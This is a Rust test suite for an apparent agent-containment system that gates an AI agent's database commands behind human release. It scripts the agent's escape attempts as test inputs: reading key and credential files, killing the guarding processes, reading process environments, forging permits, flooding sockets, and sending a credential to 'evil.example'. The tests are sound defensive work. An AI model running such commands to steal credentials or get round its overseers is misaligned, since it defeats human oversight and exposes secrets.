//! The wall: a control plane, a runner and an agent under three user ids on one machine, and an agent that tries.
//!
//! Everything here is set up by `holdpoint install system` below a directory of the test's own; only root can be several users.

#![allow(
    clippy::allow_attributes,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "what fails in a test's own functions fails the test"
)]

mod acts;
mod machine;
mod psql;
mod sites;

use std::fs;
use std::io::{Read as _, Write as _};
use std::os::unix::fs::{MetadataExt as _, chown};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt as _;
use std::process::Stdio;
use std::time::Duration;

use holdpoint_api::client::{Client, Endpoint, Error};
use holdpoint_api::v1::{OutcomeV1, ProposalV1, RUNNER_GATE, RedemptionV1, ResultV1, StatusV1, path};
use holdpoint_core::actor::{GateId, PermitId};
use holdpoint_core::change::{Artefact, Setting};
use holdpoint_core::question::Answers;
use holdpoint_testkit::browser::Browser;
use serde_json::Value;

use machine::{Machine, Ran};

#[test]
fn an_agent_reads_changes_and_stops_nothing_of_what_guards_it() {
    let Some(machine) = Machine::for_test("an_agent_reads_changes_and_stops_nothing_of_what_guards_it") else { return };
    machine.credential("");
    for attempt in [
        "cat $ROOT/var/lib/holdpoint/installation.key",
        "cat $ROOT/var/lib/holdpoint/holdpoint.db",
        "cat $ROOT/var/lib/holdpoint/invitations",
        "ls $ROOT/var/lib/holdpoint",
        "ls $ROOT/var/lib/holdpoint-runner",
        "cat $ROOT/etc/holdpoint/credentials.d/shop.toml",
        "ls $ROOT/etc/holdpoint/credentials.d",
        "echo >> $ROOT/etc/holdpoint/config.toml",
        "echo >> $ROOT/etc/holdpoint/installation.pub",
        "rm $ROOT/etc/holdpoint/log.vkey",
        "mv $ROOT/run/holdpoint/socket $ROOT/run/holdpoint/old",
        "rm $ROOT/run/holdpoint/snapshot.json",
        "rm $ROOT/run/holdpoint-runner/socket",
        "mkdir $ROOT/var/lib/holdpoint/policy",
        "echo >> $ROOT/usr/local/bin/holdpoint",
        "ls $ROOT/run/holdpoint-runner/acts",
        "holdpoint --root $ROOT up --system --listen 127.0.0.1:0",
        "holdpoint --root $ROOT up --listen 127.0.0.1:0",
        "holdpoint --root $ROOT gate command",
        "holdpoint --root $ROOT gate command --holding",
        "holdpoint --root $ROOT install system --person alice=0",
        "holdpoint --root $ROOT policy sign $HOME",
    ] {
        let ran = machine.shell(attempt);
        assert_ne!(ran.status, Some(0), "{attempt}: {ran:?}");
    }
    for child in [&machine.server, &machine.runner] {
        let ran = machine.shell(&format!("kill -TERM {pid} || kill -KILL {pid} || cat /proc/{pid}/environ", pid = child.id()));
        assert_ne!(ran.status, Some(0), "{ran:?}");
    }
    let status: StatusV1 = serde_json::from_value(machine.status()).unwrap();
    assert_eq!(status.mode.as_str(), "enforcing");
    let doctor = Ran::of(machine.holdpoint().arg("doctor").output().unwrap());
    for finding in ["enforcing: it has a user id of its own", "out of your reach", "acts for alice", "it listens"] {
        assert!(doctor.stdout.contains(finding), "{finding}: {doctor:?}");
    }
}

impl Machine {
    /// Speaks to the control plane as the agent would, and gives the answer's status and body.
    pub(crate) fn api(&self, method: &str, path: &str, headers: &str, body: &str) -> (u16, Value) {
        // The peer of a socket is whoever connects, so somebody with the agent's user id has to.
        let request = format!(
            "{method} {path} HTTP/1.1\r\nhost: holdpoint\r\nconnection: close\r\ncontent-length: {}\r\n\
             content-type: application/json\r\n{headers}\r\n{body}",
            body.len()
        );
        let script = "import socket,sys\ns=socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\n\
            s.sendall(sys.stdin.buffer.read())\nwhile True:\n d=s.recv(65536)\n if not d: break\n sys.stdout.buffer.write(d)\n";
        let mut python = self.as_agent("python3");
        python.args(["-c", script]).arg(self.at("run/holdpoint/socket")).stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut python = python.spawn().unwrap();
        python.stdin.take().unwrap().write_all(request.as_bytes()).unwrap();
        let answer = String::from_utf8(python.wait_with_output().unwrap().stdout).unwrap();
        let status = answer.split(' ').nth(1).unwrap().parse().unwrap();
        let body = answer.split_once("\r\n\r\n").map_or("", |(_, body)| body);
        (status, serde_json::from_str(body).unwrap_or(Value::Null))
    }

    fn status(&self) -> Value {
        let (status, body) = self.api("GET", path::STATUS, "", "");
        assert_eq!(status, 200, "{body}");
        body
    }
}

#[test]
fn the_control_planes_own_user_signs_policy_and_audits_the_record() {
    let Some(machine) = Machine::for_test("the_control_planes_own_user_signs_policy_and_audits_the_record") else { return };
    let as_server = |words: &[&str]| {
        let mut command = machine.holdpoint();
        let user = fs::metadata(machine.at("var/lib/holdpoint")).unwrap().uid();
        command.uid(user).gid(user).env("HOME", "/nonexistent").current_dir("/").args(words);
        Ran::of(command.output().unwrap())
    };
    let policy = machine.at("policy");
    fs::create_dir(&policy).unwrap();
    let exported = machine.holdpoint().uid(0).gid(0).args(["policy", "export"]).arg(&policy).status().unwrap();
    assert!(exported.success());
    let directory = policy.to_str().unwrap();
    let mut stranger = machine.holdpoint();
    assert!(!stranger.args(["policy", "sign", directory]).status().unwrap().success(), "an agent signs nothing");
    let signed = as_server(&["policy", "sign", directory]);
    assert_eq!(signed.status, Some(0), "{signed:?}");
    assert!(signed.stdout.contains("revision 1 is signed"), "{signed:?}");
    let verified = as_server(&["log", "verify"]);
    assert_eq!(verified.status, Some(0), "{verified:?}");
    assert!(verified.stdout.contains("the database is what the log says"), "{verified:?}");
}

#[test]
fn an_agent_speaks_for_nobody_but_itself() {
    let Some(machine) = Machine::for_test("an_agent_speaks_for_nobody_but_itself") else { return };
    let proposal = |gate: &str| ProposalV1 {
        gate: GateId::parse(gate).unwrap(),
        artefact: Artefact::Argv { argv: vec!["psql".into(), "-c".into(), "drop table orders".into()] },
        setting: Setting { directory: "/".into(), variables: Default::default(), target: "credential:shop".into() },
        answers: Answers::default(),
        act: None,
        said: None,
    };
    let json = |value: &ProposalV1| serde_json::to_string(value).unwrap();
    let (status, answer) = machine.api("POST", path::PROPOSALS, "", &json(&proposal("command")));
    assert_eq!((status, &answer["decision"]), (200, &Value::from("hold")));
    let (status, answer) = machine.api("POST", path::PROPOSALS, "", &json(&proposal(RUNNER_GATE)));
    assert_eq!((status, &answer["error"]), (403, &Value::from("forbidden")));
    let acting = format!("holdpoint-acts-for: {}\r\n", machine.agent);
    let (status, answer) = machine.api("POST", path::PROPOSALS, &acting, &json(&proposal(RUNNER_GATE)));
    assert_eq!((status, &answer["error"]), (403, &Value::from("not-the-runner")));
    let redemption = RedemptionV1 { permit: "forged".into(), seen: proposal(RUNNER_GATE) };
    let (status, _) = machine.api("POST", path::REDEMPTIONS, "", &serde_json::to_string(&redemption).unwrap());
    assert!(status >= 400);
    let outcome = OutcomeV1 {
        permit: PermitId::parse("prm-1").unwrap(),
        act: None,
        gate: GateId::parse(RUNNER_GATE).unwrap(),
        result: ResultV1::NotStarted { why: "so I say".into() },
    };
    let (status, _) = machine.api("POST", path::OUTCOMES, "", &serde_json::to_string(&outcome).unwrap());
    assert_eq!(status, 403);
    // Root is nobody to the control plane either: this process asks as root.
    let client = Client::new(Endpoint::Unix(machine.at("run/holdpoint/socket")), Duration::from_secs(10));
    assert!(matches!(client.get::<StatusV1>(path::STATUS), Err(Error::Answered { status: 403, .. })));
    // The launcher believes nobody but the runner; not even root.
    let mut launcher = UnixStream::connect(machine.at("run/holdpoint-runner/launcher")).unwrap();
    let _ = launcher.write_all(b"r\0\0\0\x02{}");
    let mut answer = Vec::new();
    let _ = launcher.read_to_end(&mut answer);
    assert_eq!(answer, b"");
}

#[test]
fn an_agent_that_takes_all_it_can_get_stops_nothing_for_others() {
    let Some(machine) = Machine::for_test("an_agent_that_takes_all_it_can_get_stops_nothing_for_others") else { return };
    let console = machine.status()["console"].as_str().unwrap().trim_start_matches("http://localhost:").to_owned();
    let flood = "import socket,sys\nheld=[]\nfor path in sys.argv[1:]:\n for n in range(300):\n  s=socket.socket(socket.AF_UNIX)\n  \
        s.settimeout(1)\n  try:\n   s.connect(path)\n   s.sendall(b'r')\n  except OSError: pass\n  held.append(s)\n\
        print('held',flush=True)\nsys.stdin.read()\n";
    let sockets =
        ["run/holdpoint/socket", "run/holdpoint-runner/socket", "run/holdpoint-runner/launcher"].map(|path| machine.at(path));
    let mut agent = machine.as_agent("python3");
    let mut agent = agent.args(["-c", flood]).args(sockets).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut said = [0; 5];
    agent.stdout.take().unwrap().read_exact(&mut said).unwrap();
    // The console goes on serving people, and both services go on.
    let mut person = std::net::TcpStream::connect(format!("127.0.0.1:{console}")).unwrap();
    person
        .write_all(format!("GET /changes HTTP/1.1\r\nhost: localhost:{console}\r\nconnection: close\r\n\r\n").as_bytes())
        .unwrap();
    let mut answer = String::new();
    person.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    drop(agent.stdin.take());
    agent.wait().unwrap();
    machine.credential("");
    // They are free again once the services have noticed, which nobody can be told.
    let goes_on = || machine.run(&["psql", "-X", "-c", "select 1"]).status == Some(0);
    assert!((0..100).any(|_| goes_on()), "what the agent held is not free again");
}

#[test]
fn what_needs_no_credential_is_the_agents_own() {
    let Some(machine) = Machine::for_test("what_needs_no_credential_is_the_agents_own") else { return };
    machine.credential("");
    let ran = machine.run(&["id", "-u"]);
    assert_eq!((ran.status, ran.stdout.trim()), (Some(0), machine.agent.to_string().as_str()), "{ran:?}");
    let ran = machine.run(&["env"]);
    assert!(ran.stdout.contains("PGOPTIONS=--evil=1"), "its environment is its own: {ran:?}");
    fs::write(machine.home().join("notes"), "once").unwrap();
    let ran = machine.run(&["rm", "notes"]);
    assert_eq!(ran.status, Some(123), "{ran:?}");
}

#[test]
fn a_credential_is_used_and_never_seen() {
    let Some(machine) = Machine::for_test("a_credential_is_used_and_never_seen") else { return };
    machine.credential("");
    let ran = machine.run(&["psql", "-X", "-c", "select 'shows'"]);
    assert_eq!(ran.status, Some(0), "{ran:?}");
    for given in ["PGHOST=localhost", "PGPASSWORD=[masked]", "LANG=C.UTF-8", "localhost:*:*:*:[masked]"] {
        assert!(ran.stdout.contains(given), "{given}: {ran:?}");
    }
    for withheld in ["PGOPTIONS", "evil", "HOLDPOINT", "BASH_ENV"] {
        assert!(!ran.stdout.contains(withheld), "{withheld}: {ran:?}");
    }
    assert!(ran.stdout.contains("\n[masked]"), "base 64 is masked as well: {ran:?}");
    let acting = format!("uid {}", machine.agent - 2 + 8);
    assert!(ran.stdout.contains(&acting), "{acting}: {ran:?}");
    assert!(ran.stdout.contains(&format!("{} {}\n", acting, machine.agent - 2 + 8)), "it is in no other group: {ran:?}");
    assert_eq!(machine.run(&["psql", "-c", "select 'status'"]).status, Some(7), "its status is passed on");
    machine.credential_for("db.shop.example", "");
    assert_eq!(machine.run(&["psql", "-c", "select 1"]).status, Some(0), "a read passes wherever it is aimed");
    assert_eq!(machine.run(&["psql", "-c", "drop table orders"]).status, Some(123));
    let acts = fs::read_dir(machine.at("run/holdpoint-runner/acts")).unwrap();
    for place in acts {
        assert_eq!(fs::read_dir(place.unwrap().path()).unwrap().count(), 0, "nothing of an act is left");
    }
}

#[test]
fn what_could_take_a_credential_elsewhere_is_held() {
    let Some(machine) = Machine::for_test("what_could_take_a_credential_elsewhere_is_held") else { return };
    machine.credential("");
    let link = machine.home().join("link.sql");
    std::os::unix::fs::symlink(machine.at("etc/holdpoint/credentials.d/shop.toml"), &link).unwrap();
    let stolen = machine.at("etc/holdpoint/credentials.d/shop.toml").display().to_string();
    for words in [
        &["psql", "-h", "evil.example", "-c", "select 1"][..],
        &["psql", "-c", "select 1", "host = evil.example"],
        &["psql", "-p", "9999", "-c", "select 1"],
        &["psql", "-c", "\\! env"],
        &["psql", "-f", &stolen],
        &["psql", "-f", "link.sql"],
    ] {
        let ran = machine.run(words);
        assert_eq!(ran.status, Some(123), "{words:?}: {ran:?}");
        assert!(ran.stdout.is_empty(), "{words:?}: {ran:?}");
    }
    for program in ["/bin/sh", "./psql"] {
        let ran = machine.run(&[program, "-c", "echo $PGPASSWORD"]);
        assert_ne!(ran.status, Some(123), "it is not the runner's, and gets nothing of it: {ran:?}");
    }
}

#[test]
fn the_program_gets_the_text_that_was_decided_about_and_nothing_that_lies_beside_it() {
    let test = "the_program_gets_the_text_that_was_decided_about_and_nothing_that_lies_beside_it";
    let Some(machine) = Machine::for_test(test) else { return };
    machine.credential("");
    fs::create_dir(machine.home().join("sql")).unwrap();
    for (name, text) in [("sql/report.sql", "select 1 -- the report"), (".psqlrc", "\\! env")] {
        let path = machine.home().join(name);
        fs::write(&path, text).unwrap();
        chown(&path, Some(machine.agent), Some(machine.agent)).unwrap();
    }
    chown(machine.home().join("sql"), Some(machine.agent), Some(machine.agent)).unwrap();
    let whole = machine.home().join("sql/report.sql").display().to_string();
    for words in [&["psql", "-X", "-f", "sql/report.sql"][..], &["psql", "-X", "-f", &whole]] {
        let ran = machine.run(words);
        assert_eq!((ran.status, ran.stdout.as_str()), (Some(0), "select 1 -- the report"), "{words:?}: {ran:?}");
    }
}

#[test]
fn a_held_act_runs_once_when_a_person_has_released_it() {
    let test = "a_held_act_runs_once_when_a_person_has_released_it";
    let Some(browser) = Browser::for_test(test).unwrap() else { return };
    let Some(machine) = Machine::for_test(test) else { return };
    machine.credential("");
    let act = ["psql", "-c", "drop table orders"];
    let held = machine.run(&act);
    assert_eq!((held.status, held.stdout.as_str()), (Some(123), ""), "{held:?}");
    assert!(held.stderr.contains("the confirmation of the person"), "{held:?}");
    machine.release(&browser, &held, "credential");

    assert_eq!(machine.run(&["psql", "-c", "drop table customers"]).status, Some(123), "another act is another change");
    let ran = machine.run(&act);
    assert_eq!((ran.status, ran.stdout.as_str()), (Some(0), "ran: -c drop table orders\n"), "{ran:?}");
    assert_eq!(machine.run(&act).status, Some(123), "a permit is spent once");
}

#[test]
fn a_signal_reaches_the_act_and_its_end_is_told() {
    let Some(machine) = Machine::for_test("a_signal_reaches_the_act_and_its_end_is_told") else { return };
    machine.credential("");
    let fifo = machine.until_nothing_is_left();
    let (client, mut output, pid) = machine.begin_one_that_stays("select 'stay'");
    let tried = machine.shell(&format!("cat /proc/{pid}/environ || kill -KILL {pid}"));
    assert_ne!(tried.status, Some(0), "the act is not the agent's to look at: {tried:?}");
    assert!(machine.shell(&format!("kill -TERM {}", client.id())).status == Some(0));
    let mut rest = String::new();
    output.read_to_string(&mut rest).unwrap();
    assert_eq!(client.wait_with_output().unwrap().status.code(), Some(143));
    nothing_is_left(&machine, fifo);
}

#[test]
fn when_the_caller_is_gone_everything_it_began_is_ended() {
    let Some(machine) = Machine::for_test("when_the_caller_is_gone_everything_it_began_is_ended") else { return };
    machine.credential("");
    let fifo = machine.until_nothing_is_left();
    let (mut client, _, _) = machine.begin_one_that_stays("select 'stay'");
    client.kill().unwrap();
    client.wait().unwrap();
    nothing_is_left(&machine, fifo);
}

#[test]
fn an_act_whose_time_is_over_is_ended_with_all_it_began() {
    let Some(machine) = Machine::for_test("an_act_whose_time_is_over_is_ended_with_all_it_began") else { return };
    machine.credential("[limits]\nseconds = 1\n");
    let fifo = machine.until_nothing_is_left();
    let (client, _output, _) = machine.begin_one_that_stays("select 'stay'");
    let ended = client.wait_with_output().unwrap();
    assert_eq!(ended.status.code(), Some(137));
    assert!(String::from_utf8_lossy(&ended.stderr).contains("its time was over"), "{ended:?}");
    nothing_is_left(&machine, fifo);
}

/// Waits until nobody holds the pipe open any more, whatever session or group they hid in.
pub(crate) fn nothing_is_left(machine: &Machine, opened: fs::File) {
    let mut reading = fs::File::open(machine.at("fifo")).unwrap();
    drop(opened);
    let mut rest = Vec::new();
    reading.read_to_end(&mut rest).unwrap();
    assert_eq!(rest, b"");
}
